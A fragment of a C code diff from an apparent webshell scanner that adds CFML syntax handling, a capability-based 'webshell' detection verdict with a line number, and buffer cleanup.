+  int pf = lang_wanted(filetype) && (controls || cfml || lang_prefilter(buf, len, strcmp(filetype, "PHP") == 0));
 #endif
   if (lang_wanted(filetype) && pf) {
     int php = strcmp(filetype, "PHP") == 0;
-    run(c, buf, len, filetype, 0, php ? SYN_PHP : strcmp(filetype, "ASP") == 0 ? SYN_VB
+    run(c, buf, len, filetype, 0, php ? SYN_PHP : cfml ? SYN_CFML : strcmp(filetype, "ASP") == 0 ? SYN_VB
                                                 : strcmp(filetype, "JSP") == 0 ? SYN_JAVA : SYN_CSHARP);
     lang_php_caps_judge(c, buf, len);
   }
+  page_verdicts(c);
+  char kit[LANG_DESC_MAX];
+  unsigned kit_line;
+  int kit_score = lang_caps_verdict(&c->caps, kit, sizeof kit, &kit_line);
+  if (kit_score) lang_add_detection(c, "shellsift.lang.kit", "webshell", kit_score, kit_line, "%s", kit);
   if (budget.exhausted) {
     out->limited = 1;
     snprintf(out->limit_why, sizeof out->limit_why, "%s", budget.why ? budget.why : "limit");
   }
   c->budget = NULL;
   c->res = NULL;
+  c->buf = NULL;
+  free(unpacked);
 }
 
 void lang_get_stats(const lang_ctx *c, const unsigned char *buf, size_t len, lang_stats *st) {
